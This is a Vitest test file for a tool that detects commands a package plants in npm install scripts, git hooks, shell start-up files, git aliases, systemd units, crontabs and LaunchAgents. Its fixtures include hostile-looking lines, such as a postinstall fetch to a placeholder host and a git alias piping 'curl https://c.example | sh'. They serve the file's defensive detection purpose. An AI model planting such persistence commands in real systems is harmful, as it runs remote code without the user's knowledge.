import { describe, expect, it } from 'vitest';
import type { Observation } from '../../src/analyze/index.js';
import { plantedCommands as commandsOf, isWorthReading } from '../../src/analyze/planted-texts.js';
import { writtenContents } from '../../src/analyze/written-contents.js';
import { packageOf } from './in-memory.js';

const plantedCommands = (each: Observation, own: Record<string, string> = {}): string[] =>
  commandsOf(each, writtenContents(each, packageOf(own)));
const plantedTexts = (each: Observation): string[] => plantedCommands(each).filter(isWorthReading);

const written = (target: string, text: string): Observation => ({
  sink: 'fs.write',
  api: 'fs.writeFileSync',
  target,
  language: 'javascript',
  args: [target, text].map((each) => ({ text: each, constant: true, taints: [], decoded: false, fields: {} })),
  taints: [],
  guards: [],
  entry: { phase: 'bin', file: 'cli.js', via: 'bin' },
  unasked: true,
  resolved: true,
  file: 'cli.js',
  line: 1,
  column: 0,
  steps: [],
});

describe('planted commands', () => {
  it('reads scripts that npm will run in a manifest that is written', () => {
    const manifest = JSON.stringify({
      scripts: { postinstall: 'node -e "fetch(\'https://c.example\')"', build: 'curl x' },
    });
    expect(plantedTexts(written('app/package.json', manifest))).toEqual(['node -e "fetch(\'https://c.example\')"']);
    expect(plantedTexts(written('app/package.json', '{"scripts":{"postinstall":"patch-package"}}'))).toEqual([]);
  });

  it('reads git hooks and start-up files that fetch, and nothing else', () => {
    expect(plantedTexts(written('$PROJECT/.git/hooks/pre-push', 'curl https://c.example'))).toHaveLength(1);
    expect(plantedTexts(written('~/.bashrc', 'eval "$(x)"'))).toHaveLength(1);
    expect(plantedTexts(written('.husky/pre-commit', 'npx lint-staged'))).toEqual([]);
    expect(plantedTexts(written('docs/setup.md', 'curl https://c.example'))).toEqual([]);
  });

  it('reads the template that a hook is made of', () => {
    const taint = { source: 'file.own', detail: './share/hook.txt', file: 'cli.js', line: 1, through: [], steps: [] };
    const made = { ...written('.git/hooks/pre-push', ''), taints: [taint] };
    expect(plantedCommands(made, { 'share/hook.txt': 'curl https://c.example' })).toEqual(['curl https://c.example']);
  });

  it('reads what settings of git, units, timers and agents start', () => {
    const config =
      '[user]\n\tname = a\n[core]\n\tsshCommand = "sh -c \\"x\\""\n[alias]\n\tst = status\n\tup = !curl https://c.example | sh\n';
    expect(plantedCommands(written('~/.gitconfig', config))).toEqual(['sh -c "x"', 'curl https://c.example | sh']);
    expect(plantedCommands(written('~/.config/systemd/user/a.service', '[Service]\nExecStart=-/opt/a b\n'))).toEqual([
      '/opt/a b',
    ]);
    expect(plantedCommands(written('crontab', '# x\n0 3 * * * ~/a.sh\n@reboot b\n'))).toEqual(['~/a.sh', 'b']);
    expect(
      plantedCommands(
        written(
          '~/Library/LaunchAgents/a.plist',
          '<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>a &amp;&amp; b</string></array>',
        ),
      ),
    ).toEqual(["sh -c 'a && b'"]);
  });
});
